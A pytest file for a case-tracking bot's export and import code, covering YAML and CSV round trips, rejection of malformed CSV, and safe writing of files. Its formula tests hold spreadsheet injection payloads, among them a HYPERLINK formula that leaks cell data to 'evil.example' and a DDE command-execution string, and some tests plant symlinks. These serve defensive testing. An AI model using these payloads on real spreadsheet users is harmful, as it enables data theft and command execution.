"""Exporting case files (YAML and CSV), importing CSV, and the round trip between them."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
from collections.abc import Callable, Iterator
from dataclasses import replace
from datetime import UTC, date, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
import yaml
from sqlalchemy import Engine
from sqlmodel import Session, col, select

import storage.database.engine
from storage.database.models import (
    Case,
    CaseName,
    Court,
    Hearing,
    LetterGuide,
    Person,
    TimelineEvent,
)
from storage.domain.names import name_key
from storage.files.casefile import CaseFileError, parse_case_file
from storage.files.csvfile import COLUMNS, parse_csv
from storage.files.csvwrite import write_csv
from storage.files.exporter import collect_case_file, export_cases, export_file
from storage.files.filesafety import guard_cell, unguard_cell
from storage.files.importer import SAMPLE_FILE, ImportReport, apply_case_file, import_file
from storage.reads.cases import list_events

TZ = "Asia/Almaty"
QUOTED_ALIAS = 'Aliev, "Ali"\nsecond line'
LETTER_ADDRESS = 'СИЗО-1, "корпус 2",\nг. Алматы, 050000'
GUIDE_KK = "=Қысқа жазыңыз; сот туралы жазбаңыз"

MakeDb = Callable[[str], Engine]


@pytest.fixture
def make_db(tmp_path: Path) -> Iterator[MakeDb]:
    """Migrated SQLite files under tmp_path, by name."""
    engines: list[Engine] = []

    def make(name: str) -> Engine:
        engine = storage.database.engine.make_engine(f"sqlite:///{tmp_path}/{name}")
        storage.database.engine.upgrade(engine)
        engines.append(engine)
        return engine

    yield make
    for engine in engines:
        engine.dispose()


def rows(engine: Engine) -> dict[str, list[str]]:
    """Every case table's rows (and the letter guide) without ids, timestamps, edit counters
    and editors, links as slugs."""
    skip = {"id", "created_at", "updated_at", "updated_by", "version", "case_id", "court_id"}
    models: dict[
        str, type[Case | CaseName | Court | Hearing | Person | TimelineEvent | LetterGuide]
    ] = {
        "cases": Case,
        "names": CaseName,
        "courts": Court,
        "hearings": Hearing,
        "people": Person,
        "events": TimelineEvent,
        "letter_guides": LetterGuide,
    }
    with storage.database.engine.session_scope(engine) as session:
        cases = {case.id: case.slug for case in session.exec(select(Case)).all()}
        courts = {court.id: court.slug for court in session.exec(select(Court)).all()}
        result: dict[str, list[str]] = {}
        for table, model in models.items():
            dumped = []
            for row in session.exec(select(model)).all():
                data = row.model_dump(exclude=skip)
                if hasattr(row, "case_id"):
                    data["case"] = cases[row.case_id]
                if isinstance(row, Hearing):
                    data["court"] = courts.get(row.court_id)
                dumped.append(json.dumps(data, sort_keys=True, default=str, ensure_ascii=False))
            result[table] = sorted(dumped)
        return result


def load_sample(engine: Engine) -> None:
    with storage.database.engine.session_scope(engine) as session:
        import_file(session, SAMPLE_FILE, default_tz=TZ)


def add_rich_case(session: Session) -> None:
    """A case with every field set, built as the bot's own code would store it."""
    oral = Court(
        slug="oral-court",
        tz="Asia/Oral",
        name={"ru": "Уральский суд", "en": "Oral court"},
        city={"en": "Oral"},
        address={"ru": "ул. Достык, 1", "en": "1 Dostyk street"},
        note={"kk": "Кіреберіс аулада", "en": "Entrance from the yard: bring an ID card"},
        lat=51.233333,
        lon=-0.5,
    )
    unused = Court(slug="unused-court", tz="Europe/Moscow", name={"en": "Unused"}, city={})
    session.add_all([oral, unused])
    case = Case(
        slug="rich-case",
        custody="detained",
        proceedings="trial",
        protection=None,
        risk=None,
        summary={"ru": 'Сводка, с "кавычками"\nи второй строкой', "kk": "Қысқаша"},
        summary_lang="ru",
        sentence_months=18,
        sentence_days=3,
        credit_ratio=1.5,
        detained_on=date(2023, 2, 1),
        verdict_on=date(2024, 6, 1),
        release_on=date(2024, 12, 31),
        suspended=True,
        letter_address=LETTER_ADDRESS,
        letters_reach=False,
        letter_langs=["ru", "no", "ug"],  # "no" (Norwegian) is false to YAML unless quoted
    )
    bare = Case(slug="bare-case")
    session.add(LetterGuide(lang="kk", text=GUIDE_KK, updated_by=900))
    session.add(LetterGuide(lang="en", text='Write "briefly",\nnever about the trial.'))
    session.add_all([case, bare])
    session.flush()
    assert case.id is not None and bare.id is not None and oral.id is not None
    names = [
        ("kk", "Әли Әлиев", True),
        ("ru", "Али Алиев", True),
        ("en", 'Ali "Ali" Aliev', True),
        ("alias", QUOTED_ALIAS, False),
    ]
    for lang, text, primary in names:
        session.add(
            CaseName(case_id=case.id, lang=lang, text=text, is_primary=primary, key=name_key(text))
        )
    session.add(CaseName(case_id=bare.id, lang="en", text="Bare", key=name_key("Bare")))

    def instant(day: date, hour: int, minute: int, zone: str) -> datetime:
        local = datetime(day.year, day.month, day.day, hour, minute, tzinfo=ZoneInfo(zone))
        return local.astimezone(UTC)

    session.add_all(
        [
            Hearing(  # in the Oral court's own zone, hour known
                case_id=case.id,
                court_id=oral.id,
                starts_at=instant(date(2024, 5, 2), 9, 30, "Asia/Oral"),
                tz="Asia/Oral",
                status="held",
                judge={"en": "Judge Dredd", "ru": "Судья Дредд"},
                note={"ru": "Заседание, отложено", "kk": "Отырыс"},
                note_lang="ru",
            ),
            Hearing(  # no court, hour not known, in Moscow
                case_id=case.id,
                starts_at=instant(date(2024, 5, 20), 0, 0, "Europe/Moscow"),
                tz="Europe/Moscow",
                time_known=False,
                status="scheduled",
            ),
            Hearing(  # in the Oral court, but held in another zone than the court's
                case_id=case.id,
                court_id=oral.id,
                starts_at=instant(date(2024, 6, 1), 14, 0, TZ),
                tz=TZ,
                status="postponed",
                note={"en": "Moved, again"},
                note_lang="en",
            ),
        ]
    )
    session.add_all(
        [
            Person(
                case_id=case.id,
                role="lawyer",
                name={"kk": "Адвокат", "ru": "Адвокат", "en": "Lawyer, Esq."},
                note={"en": 'Says "no comment"'},
            ),
            Person(case_id=case.id, role="organisation", name={"ru": "Атажурт"}, note={}),
        ]
    )

    def full_source(event: TimelineEvent) -> TimelineEvent:
        event.source_title = "An article, with a comma"
        event.source_outlet = "Outlet"
        event.source_url = "https://example.org/a?b=1,2"
        return event

    session.add_all(
        [
            full_source(
                TimelineEvent(
                    case_id=case.id,
                    occurred_on=date(2024, 6, 1),
                    precision="day",
                    lang="ru",
                    text={"ru": "Приговор", "en": "Verdict"},
                )
            ),
            TimelineEvent(
                case_id=case.id,
                occurred_on=date(2019, 10, 1),
                precision="month",
                lang="en",
                text={"en": "Month only"},
                source_title="No address",
                source_outlet="Print weekly",
            ),
            TimelineEvent(
                case_id=case.id,
                occurred_on=date(2018, 1, 1),
                precision="year",
                lang="kk",
                text={"kk": "Жыл ғана"},
            ),
            full_source(
                TimelineEvent(
                    case_id=case.id,
                    occurred_on=date(2024, 6, 2),
                    precision="day",
                    lang="en",
                    text={"en": "Same article again"},
                )
            ),
            TimelineEvent(
                case_id=case.id,
                occurred_on=date(2024, 6, 2),
                precision="day",
                lang="en",
                text={"en": "A title alone"},
                source_title="Title only",
            ),
        ]
    )


@pytest.fixture
def full_db(make_db: MakeDb) -> Engine:
    """The sample cases plus a case with every field set, a bare case and an unused court."""
    engine = make_db("a.db")
    load_sample(engine)
    with storage.database.engine.session_scope(engine) as session:
        add_rich_case(session)
    return engine


# --------------------------------------------------------------------------- round trip


@pytest.mark.parametrize("suffix", [".yaml", ".csv"])
def test_round_trip_gives_the_same_rows_and_the_same_bytes(
    full_db: Engine, make_db: MakeDb, tmp_path: Path, suffix: str
) -> None:
    first, second = tmp_path / f"first{suffix}", tmp_path / f"second{suffix}"
    with storage.database.engine.session_scope(full_db) as session:
        written = export_file(session, first)
    assert (written.cases, written.courts, written.hearings) == (7, 4, 8)
    copy = make_db("b.db")
    with storage.database.engine.session_scope(copy) as session:
        report = import_file(session, first, default_tz=TZ)
    assert len(report.added) == 7 and report.courts_added == 4
    assert rows(copy) == rows(full_db)
    with storage.database.engine.session_scope(copy) as session:
        export_file(session, second)
    assert second.read_bytes() == first.read_bytes()


@pytest.mark.parametrize("suffix", [".yaml", ".csv"])
def test_importing_an_export_into_its_own_database_changes_nothing(
    full_db: Engine, tmp_path: Path, suffix: str
) -> None:
    path = tmp_path / f"export{suffix}"
    with storage.database.engine.session_scope(full_db) as session:
        export_file(session, path)
    before = rows(full_db)
    with storage.database.engine.session_scope(full_db) as session:
        report = import_file(session, path, default_tz=TZ)
    assert report.nothing_changed, report.summary()
    assert "No change" in report.summary()
    assert rows(full_db) == before


@pytest.mark.parametrize("suffix", [".yaml", ".csv"])
def test_sample_export_reimports_as_no_change(make_db: MakeDb, tmp_path: Path, suffix: str) -> None:
    engine = make_db("sample.db")
    load_sample(engine)
    path = tmp_path / f"sample{suffix}"
    with storage.database.engine.session_scope(engine) as session:
        export_file(session, path)
    with storage.database.engine.session_scope(engine) as session:
        report = import_file(session, path, default_tz=TZ)
    assert report.nothing_changed and len(report.unchanged) == 5


def test_csv_and_yaml_carry_the_same_data(full_db: Engine, make_db: MakeDb, tmp_path: Path) -> None:
    with storage.database.engine.session_scope(full_db) as session:
        export_file(session, tmp_path / "a.csv")
        yaml_text = export_cases(session)
        data = collect_case_file(session)
    via_csv = make_db("via-csv.db")
    with storage.database.engine.session_scope(via_csv) as session:
        import_file(session, tmp_path / "a.csv", default_tz=TZ)
        assert export_cases(session) == yaml_text
    assert data.letter_guide == {"kk": GUIDE_KK, "en": 'Write "briefly",\nnever about the trial.'}
    unnumbered = [replace(case, line=0) for case in parse_csv(write_csv(data)).cases]
    assert replace(data, cases=unnumbered) == data
    unnumbered = [replace(case, line=0) for case in parse_case_file(yaml_text).cases]
    assert replace(data, cases=unnumbered) == data


def test_yaml_export_quotes_times_and_partial_dates(full_db: Engine) -> None:
    with storage.database.engine.session_scope(full_db) as session:
        text = export_cases(session)
    assert text.startswith("format: casebot-cases/1\n")
    assert 'time: "09:30"' in text and 'time: "14:00"' in text
    assert 'date: "2019-10"' in text and 'date: "2018"' in text
    assert "date: 2024-06-01" in text
    assert "Әли Әлиев" in text  # allow_unicode
    document = yaml.safe_load(text)
    assert [court["slug"] for court in document["courts"]] == [
        "oral-court",
        "unused-court",
        "zaysan-court",
        "zharkent-court",
    ]
    rich = next(case for case in document["cases"] if case["slug"] == "rich-case")
    assert rich["status"] == {
        "custody": "detained",
        "proceedings": "trial",
        "protection": None,
        "risk": None,
    }
    assert rich["sentence"] == {
        "term": "1y6m3d",
        "ratio": 1.5,
        "detained": date(2023, 2, 1),
        "verdict": date(2024, 6, 1),
        "release": date(2024, 12, 31),
        "suspended": True,
    }
    assert list(rich["summary"]) == ["ru", "kk"]  # the original first: there is no English
    assert rich["letters"] == {
        "address": LETTER_ADDRESS,
        "reach": False,
        "langs": ["ru", "no", "ug"],
    }
    assert list(document)[3:] == ["letter_guide", "cases"]
    assert list(document["letter_guide"]) == ["kk", "en"]
    oral, moscow, moved = rich["hearings"]
    assert oral["date"] == date(2024, 5, 2) and "tz" not in oral
    assert moscow == {"date": date(2024, 5, 20), "tz": "Europe/Moscow", "status": "scheduled"}
    assert moved["tz"] == TZ and moved["court"] == "oral-court"
    assert [event["date"] for event in rich["timeline"]] == [
        "2018",
        "2019-10",
        date(2024, 6, 1),
        date(2024, 6, 2),
        date(2024, 6, 2),
    ]
    assert "source" not in rich["timeline"][0]
    sources = {source["id"]: source for source in document["sources"]}
    assert list(sources) == [f"src-{n}" for n in range(1, len(sources) + 1)]
    titles = [source["title"] for source in sources.values()]
    assert len(titles) == len(set(titles)) == 8  # five from the sample, three here
    no_url = sources[rich["timeline"][1]["source"]]
    assert no_url == {"id": no_url["id"], "title": "No address", "outlet": "Print weekly"}
    assert rich["timeline"][2]["source"] == rich["timeline"][3]["source"]
    bare = next(case for case in document["cases"] if case["slug"] == "bare-case")
    assert "sentence" not in bare and bare["hearings"] == [] and bare["timeline"] == []
    assert "letters" not in bare


def test_csv_export_keeps_awkward_text_in_one_record(full_db: Engine, tmp_path: Path) -> None:
    path = tmp_path / "cases.csv"
    with storage.database.engine.session_scope(full_db) as session:
        export_file(session, path)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # a BOM, for spreadsheets
    text = raw.decode("utf-8-sig")
    assert text.splitlines()[0] == ",".join(COLUMNS)
    assert '"Aliev, ""Ali""\nsecond line"' in text
    data = parse_csv(text)
    rich = next(case for case in data.cases if case.slug == "rich-case")
    assert ("alias", QUOTED_ALIAS, False) in rich.names
    assert rich.sentence is not None and rich.sentence.suspended
    assert rich.status["protection"] is None
    assert [event.precision for event in rich.timeline] == ["year", "month", "day", "day", "day"]


# --------------------------------------------------------------------------- bad CSV

BAD_CSV = """\
record,case,court,tz,lang,text,primary,date,time,status,custody,text_en,source_title
court,,court-a,Asia/Almaty,,,,,,,,,
case,good-case,,,,,,,,,,,
name,good-case,,,en,Good Person,true,,,,,,
case,bad-case,,,,,,,,,on_the_moon,,
name,bad-case,,,en,"Bad, ""Person""
on two lines",false,,,,,,
event,bad-case,,,en,,,2019-13,,,,Something,
hearing,bad-case,court-a,,,,,2020-02-30,25:99,,,,
meeting,bad-case,,,,,,,,,,,
name,ghost-case,,,en,Ghost,true,,,,,,
name,,,,en,Nobody,,,,,,,
hearing,good-case,nowhere,,,,,2020-03-01,,maybe,,,
"""


def test_a_csv_with_bad_rows_changes_nothing_and_lists_each_line(
    make_db: MakeDb, tmp_path: Path
) -> None:
    engine = make_db("a.db")
    load_sample(engine)
    before = rows(engine)
    path = tmp_path / "bad.csv"
    path.write_text(BAD_CSV, encoding="utf-8")
    with (
        pytest.raises(CaseFileError) as caught,
        storage.database.engine.session_scope(engine) as session,
    ):
        import_file(session, path, default_tz=TZ)
    problems = caught.value.problems
    assert all(problem.startswith("line ") for problem in problems)
    by_line = {
        line: [p for p in problems if p.startswith(f"line {line}: ")] for line in range(1, 15)
    }
    assert any("on_the_moon" in p for p in by_line[5])  # unknown status key
    assert by_line[6] == []  # a valid name, quoted over two lines
    assert any("2019-13" in p for p in by_line[8])  # bad date
    assert any("2020-02-30" in p for p in by_line[9]) and any("25:99" in p for p in by_line[9])
    assert any("unknown record type 'meeting'" in p for p in by_line[10])
    assert any("'ghost-case' has no case row" in p for p in by_line[11])  # missing case
    assert any("needs the slug of its case" in p for p in by_line[12])
    assert any("nowhere" in p for p in by_line[13]) and any("maybe" in p for p in by_line[13])
    assert not by_line[1] and not by_line[2] and not by_line[3] and not by_line[4]
    lines = [int(problem.split(":")[0].removeprefix("line ")) for problem in problems]
    assert lines == sorted(lines)
    assert rows(engine) == before  # not even good-case was added
    refused = ImportReport.refused(caught.value)
    assert refused.rejected == problems and refused.nothing_changed
    assert "Not imported" in refused.summary() and "line 10" in refused.summary()


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("", "line 1: the file is empty"),
        ("record,case,colour\n", "line 1: unknown column 'colour'"),
        ("case,lang\ncase,x\n", "line 1: the header has no 'record' column"),
        ("record,case,tz\ncase,x,Asia/Almaty\n", "line 2: column 'tz' does not apply to a case"),
        ("record,case\ncase,x\n", "line 2: case 'x' has no names"),
        ("record,case\ncase,x\ncase,x\n", "line 3: case slug 'x' appears twice"),
        ("record,case\ncase,Bad Slug\n", "line 2: case slug 'Bad Slug' must be"),
        ("record,court,tz\ncourt,c,Mars/Base\n", "line 2: time zone 'Mars/Base'"),
        ("record,case,term\ncase,x,1q\n", "line 2: term:"),
        ("record,case,ratio\ncase,x,3\n", "line 2: ratio '3'"),
        ("record,case,suspended\ncase,x,maybe\n", "line 2: suspended 'maybe'"),
        (
            "record,case,summary_en,summary_lang\ncase,x,Hello,en\n",
            "line 2: summary_lang is only for a text with no English",
        ),
        (
            "record,case,summary_kk,summary_lang\ncase,x,Сәлем,ru\n",
            "line 2: summary_lang is 'ru' but summary_ru is empty",
        ),
        ("record,case,lang\nname,x,en\n", "line 2: a name row needs a text"),
        ("record,case,role\nperson,x,lawyer\n", "line 2: a person row needs a name"),
        (
            "record,case,date,lang,text_ru\nevent,x,2020,en,Текст\n",
            "line 2: event text has no 'en' original",
        ),
        (
            "record,case,date,lang,text_en,source_url\nevent,x,2020,en,T,ftp://x\n",
            "line 2: an event's source needs a source_title",
        ),
        ('record,case\ncase,"x\n', "not valid CSV"),
        ("record,case\ncase,x,extra\n", "line 2: 3 cells but the header has 2"),
    ],
)
def test_invalid_csv_is_refused_with_its_line(text: str, expected: str) -> None:
    with pytest.raises(CaseFileError) as caught:
        parse_csv(text)
    assert any(expected in problem for problem in caught.value.problems), caught.value.problems


def test_a_hand_written_csv_with_few_columns_imports(make_db: MakeDb, tmp_path: Path) -> None:
    path = tmp_path / "hand.csv"
    path.write_text(
        "\ufeffcase,record,lang,text,primary,date,text_en,summary_kk,summary_ru,summary_lang\n"
        "x-case,name,en,X Person,yes,,,,,\n"
        "\n"
        "x-case,case,,,,,,Қазақша,Русский,ru\n"
        "x-case,event,en,,,2021-03,Something happened,,,\n",
        encoding="utf-8",
    )
    engine = make_db("a.db")
    with storage.database.engine.session_scope(engine) as session:
        report = import_file(session, path, default_tz=TZ)
    assert report.added == ["x-case"]
    with storage.database.engine.session_scope(engine) as session:
        case = session.exec(select(Case)).one()
        assert case.summary_lang == "ru" and case.sentence_months is None
        event = session.exec(select(TimelineEvent)).one()
        assert (event.occurred_on, event.precision) == (date(2021, 3, 1), "month")


# --------------------------------------------------------------------------- files


@pytest.mark.parametrize("name", ["cases.txt", "cases", "cases.jsonl", "cases.yaml.bak"])
def test_export_refuses_other_extensions(full_db: Engine, tmp_path: Path, name: str) -> None:
    with (
        storage.database.engine.session_scope(full_db) as session,
        pytest.raises(ValueError, match=r"\.yaml, \.yml, \.json or \.csv"),
    ):
        export_file(session, tmp_path / name)
    assert list(tmp_path.glob("cases*")) == []


@pytest.mark.parametrize(
    ("name", "kind"),
    [("c.yml", "yaml"), ("C.YAML", "yaml"), ("c.CSV", "csv"), ("c.json", "json")],
)
def test_extension_chooses_the_format(
    full_db: Engine, make_db: MakeDb, tmp_path: Path, name: str, kind: str
) -> None:
    path = tmp_path / name
    with storage.database.engine.session_scope(full_db) as session:
        report = export_file(session, path)
    assert report.kind == kind and report.path == path
    assert "Exported 7 cases" in report.summary()
    head = path.read_text(encoding="utf-8-sig").splitlines()[0]
    heads = {"yaml": "format: casebot-cases/1", "json": "{", "csv": ",".join(COLUMNS)}
    assert head == heads[kind]
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".partial")] == []
    with storage.database.engine.session_scope(make_db("c.db")) as session:
        assert len(import_file(session, path, default_tz=TZ).added) == 7


def test_import_refuses_other_extensions(make_db: MakeDb, tmp_path: Path) -> None:
    path = tmp_path / "cases.txt"
    path.write_text(SAMPLE_FILE.read_text(encoding="utf-8"), encoding="utf-8")
    engine = make_db("a.db")
    with (
        pytest.raises(CaseFileError) as caught,
        storage.database.engine.session_scope(engine) as session,
    ):
        import_file(session, path, default_tz=TZ)
    assert ".yaml, .yml, .json or .csv" in caught.value.problems[0]
    assert rows(engine)["cases"] == []


# --------------------------------------------------------------------------- progress


@pytest.mark.parametrize("suffix", [".yaml", ".csv"])
def test_progress_counts_up_to_the_total(
    full_db: Engine, make_db: MakeDb, tmp_path: Path, suffix: str
) -> None:
    path = tmp_path / f"cases{suffix}"
    with storage.database.engine.session_scope(full_db) as session:
        export_file(session, path)
    calls: list[tuple[int, int]] = []
    with storage.database.engine.session_scope(make_db("b.db")) as session:
        import_file(
            session, path, default_tz=TZ, progress=lambda done, total: calls.append((done, total))
        )
    assert calls == [(done, 7) for done in range(1, 8)]


def test_progress_of_a_file_without_cases(make_db: MakeDb, tmp_path: Path) -> None:
    path = tmp_path / "empty.yaml"
    path.write_text("format: casebot-cases/1\n", encoding="utf-8")
    calls: list[tuple[int, int]] = []
    with storage.database.engine.session_scope(make_db("a.db")) as session:
        import_file(session, path, default_tz=TZ, progress=lambda *call: calls.append(call))
    assert calls == [(0, 0)]


# --------------------------------------------------------------------------- YAML additions


def test_yaml_hearing_zone_and_a_sentence_without_term(make_db: MakeDb, tmp_path: Path) -> None:
    path = tmp_path / "zones.yaml"
    path.write_text(
        "format: casebot-cases/1\n"
        "cases:\n"
        "  - slug: z\n"
        "    names: [{lang: en, text: Z}]\n"
        "    sentence: {release: 2025-01-02}\n"
        '    hearings: [{date: 2025-03-04, time: "10:00", tz: Europe/Berlin}]\n',
        encoding="utf-8",
    )
    engine = make_db("a.db")
    with storage.database.engine.session_scope(engine) as session:
        import_file(session, path, default_tz=TZ)
    with storage.database.engine.session_scope(engine) as session:
        hearing = session.exec(select(Hearing)).one()
        assert hearing.tz == "Europe/Berlin"
        assert hearing.starts_at == datetime(2025, 3, 4, 9, 0, tzinfo=UTC)
        case = session.exec(select(Case)).one()
        assert (case.sentence_months, case.release_on) == (None, date(2025, 1, 2))
    with pytest.raises(CaseFileError, match="Mars/Base"):
        parse_case_file(path.read_text(encoding="utf-8").replace("Europe/Berlin", "Mars/Base"))
    with pytest.raises(CaseFileError, match="ratio 'abc'"):
        parse_case_file(
            "format: casebot-cases/1\ncases:\n  - slug: r\n    names: [{lang: en, text: R}]\n"
            "    sentence: {term: 1y, ratio: abc}\n"
        )


# --------------------------------------------------------------------------- formulas

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click me")',
    "+7 701 000 00 00",
    "-5 years",
    "@SUM(A1:A9)",
    "'=already guarded by hand",
    "''two quotes",
    "'Twas a quote, and stays one",
    "'",
]


def add_formula_case(session: Session) -> None:
    """A case whose names and texts a spreadsheet would run as formulas."""
    case = Case(
        slug="formula-case",
        summary={"en": "=1+1 is not a summary"},
        summary_lang="en",
    )
    session.add(case)
    session.flush()
    assert case.id is not None
    for text in [*FORMULAS, "Plain Name"]:
        session.add(CaseName(case_id=case.id, lang="alias", text=text, key=name_key(text)))
    session.add(
        Person(
            case_id=case.id,
            role="organisation",
            name={"en": "=cmd|' /C calc'!A0"},
            note={"ru": "- список, а не формула", "en": "@organizer"},
        )
    )
    session.add(
        TimelineEvent(
            case_id=case.id,
            occurred_on=date(2024, 3, 1),
            precision="day",
            lang="en",
            text={"en": "- a legitimate text starting with a dash"},
            source_title="+ a title",
            source_outlet="@outlet",
        )
    )


def test_guard_cell_is_undone_exactly_by_unguard_cell() -> None:
    samples = [*FORMULAS, "", "plain", "\tTab", "\rCR", "'\t", "'''", "a=b", " =x", "'-", "-"]
    for text in samples:
        guarded = guard_cell(text)
        assert unguard_cell(guarded) == text, text
        assert guarded[:1] not in ("=", "+", "-", "@", "\t", "\r"), text
        if guarded == text:
            assert unguard_cell(text) == text, text
    assert guard_cell("=1+1") == "'=1+1" and guard_cell("'Twas") == "'Twas"
    assert guard_cell("'=1") == "''=1" and unguard_cell("'=1") == "=1"


def test_csv_export_neutralises_formulas_and_round_trips(
    full_db: Engine, make_db: MakeDb, tmp_path: Path
) -> None:
    with storage.database.engine.session_scope(full_db) as session:
        add_formula_case(session)
    first, second = tmp_path / "first.csv", tmp_path / "second.csv"
    with storage.database.engine.session_scope(full_db) as session:
        export_file(session, first)
        yaml_text = export_cases(session)
    text = first.read_text(encoding="utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=HYPERLINK(" in text and "'-5 years" in text and "''two quotes" in text
    assert "'''=already guarded by hand" not in text and "''=already guarded by hand" in text
    assert ",'Twas a quote, and stays one" not in text  # quoted by csv for its comma
    assert '"\'Twas a quote, and stays one"' in text
    assert "=HYPERLINK(" in yaml_text and "'=HYPERLINK(" not in yaml_text  # YAML as it is
    copy = make_db("copy.db")
    with storage.database.engine.session_scope(copy) as session:
        report = import_file(session, first, default_tz=TZ)
    assert "formula-case" in report.added
    assert rows(copy) == rows(full_db)
    with storage.database.engine.session_scope(copy) as session:
        export_file(session, second)
        assert export_cases(session) == yaml_text
    assert second.read_bytes() == first.read_bytes()


def test_a_hand_written_csv_drops_only_a_guarding_quote(make_db: MakeDb, tmp_path: Path) -> None:
    path = tmp_path / "hand.csv"
    path.write_text(
        "record,case,lang,text\n"
        "case,q,,\n"
        "name,q,en,'=SUM(1)\n"
        "name,q,alias,'Twas\n"
        "name,q,alias,'-dash\n"
        "name,q,alias,''quote\n",
        encoding="utf-8",
    )
    engine = make_db("hand.db")
    with storage.database.engine.session_scope(engine) as session:
        import_file(session, path, default_tz=TZ)
    with storage.database.engine.session_scope(engine) as session:
        names = session.exec(select(CaseName.text).order_by(col(CaseName.id))).all()
    assert names == ["=SUM(1)", "'Twas", "-dash", "'quote"]


# --------------------------------------------------------------------------- writing the file


def test_export_never_writes_through_a_link_at_its_temporary_path(
    full_db: Engine, tmp_path: Path
) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me", encoding="utf-8")
    folder = tmp_path / "exports"
    folder.mkdir()
    for name in ("cases.yaml", "cases.csv"):
        planted = folder / f".{name}.partial"  # where the export used to write first
        planted.symlink_to(victim)
        with storage.database.engine.session_scope(full_db) as session:
            export_file(session, folder / name)
        assert victim.read_text(encoding="utf-8") == "keep me"
        target = folder / name
        assert target.is_file() and not target.is_symlink()
        head = target.read_text(encoding="utf-8-sig").splitlines()[0]
        assert head == ("format: casebot-cases/1" if name.endswith(".yaml") else ",".join(COLUMNS))
        assert planted.is_symlink() and planted.resolve() == victim.resolve()
    assert sorted(p.name for p in folder.iterdir()) == [
        ".cases.csv.partial",
        ".cases.yaml.partial",
        "cases.csv",
        "cases.yaml",
    ]


def test_export_skips_a_temporary_name_someone_planted(
    full_db: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    names = iter(["planted", "fresh"])
    monkeypatch.setattr("storage.files.filesafety.secrets.token_hex", lambda _size: next(names))
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me", encoding="utf-8")
    planted = tmp_path / ".cases.yaml.planted.partial"
    planted.symlink_to(victim)
    with storage.database.engine.session_scope(full_db) as session:
        export_file(session, tmp_path / "cases.yaml")
    assert victim.read_text(encoding="utf-8") == "keep me" and planted.is_symlink()
    assert (tmp_path / "cases.yaml").read_text(encoding="utf-8").startswith("format: ")
    assert not (tmp_path / ".cases.yaml.fresh.partial").exists()


def test_a_failed_export_leaves_no_file_behind(
    full_db: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def refuse(*_args: object) -> None:
        raise OSError("disk full")

    monkeypatch.setattr("storage.files.filesafety.os.replace", refuse)
    with (
        storage.database.engine.session_scope(full_db) as session,
        pytest.raises(OSError, match="disk full"),
    ):
        export_file(session, tmp_path / "cases.yaml")
    assert list(tmp_path.glob("*cases*")) == []


def test_export_files_get_the_usual_permissions(full_db: Engine, tmp_path: Path) -> None:
    previous = os.umask(0o027)
    try:
        with storage.database.engine.session_scope(full_db) as session:
            export_file(session, tmp_path / "cases.csv")
    finally:
        os.umask(previous)
    assert stat.S_IMODE((tmp_path / "cases.csv").stat().st_mode) == 0o640


def test_export_refuses_an_existing_file_unless_told_to_overwrite(
    full_db: Engine, tmp_path: Path
) -> None:
    path = tmp_path / "cases.yaml"
    path.write_text("precious", encoding="utf-8")
    dangling = tmp_path / "dangling.csv"
    dangling.symlink_to(tmp_path / "nowhere")
    with storage.database.engine.session_scope(full_db) as session:
        for existing in (path, dangling):
            with pytest.raises(FileExistsError):
                export_file(session, existing)
        assert path.read_text(encoding="utf-8") == "precious"
        assert not (tmp_path / "nowhere").exists()
        report = export_file(session, path, overwrite=True)
    assert report.cases == 7 and path.read_text(encoding="utf-8").startswith("format: ")


EVENTS_OF_ONE_DAY = """\
format: casebot-cases/1
cases:
  - slug: one-day
    names: [{lang: en, text: One Day, primary: true}]
    sentence: {term: 6m, suspended: unknown}
    timeline:
      - {date: "2020-01-21", lang: en, text: {en: The verdict is read}, order: 2}
      - {date: "2020-01-21", lang: en, text: {en: Supporters gather outside}, order: 1}
      - {date: "2020", lang: en, text: {en: The year opens}}
"""


@pytest.mark.parametrize("suffix", [".yaml", ".csv"])
def test_event_order_and_unknown_suspension_survive_a_round_trip(
    engine: Engine, tmp_path: Path, suffix: str
) -> None:
    with Session(engine) as session:
        apply_case_file(session, parse_case_file(EVENTS_OF_ONE_DAY), default_tz="Asia/Almaty")
        session.commit()
        case_id = session.exec(select(Case.id).where(Case.slug == "one-day")).one()
        assert case_id is not None
        texts = [event.text["en"] for event in list_events(session, case_id=case_id)]
    assert texts == ["The year opens", "Supporters gather outside", "The verdict is read"]
    target = tmp_path / f"out{suffix}"
    with Session(engine) as session:
        export_file(session, target)
    data = (
        parse_csv(target.read_text()) if suffix == ".csv" else parse_case_file(target.read_text())
    )
    [case] = data.cases
    assert case.sentence is not None and case.sentence.suspended is None
    assert {(e.text["en"], e.order) for e in case.timeline} == {
        ("The verdict is read", 2),
        ("Supporters gather outside", 1),
        ("The year opens", 0),
    }
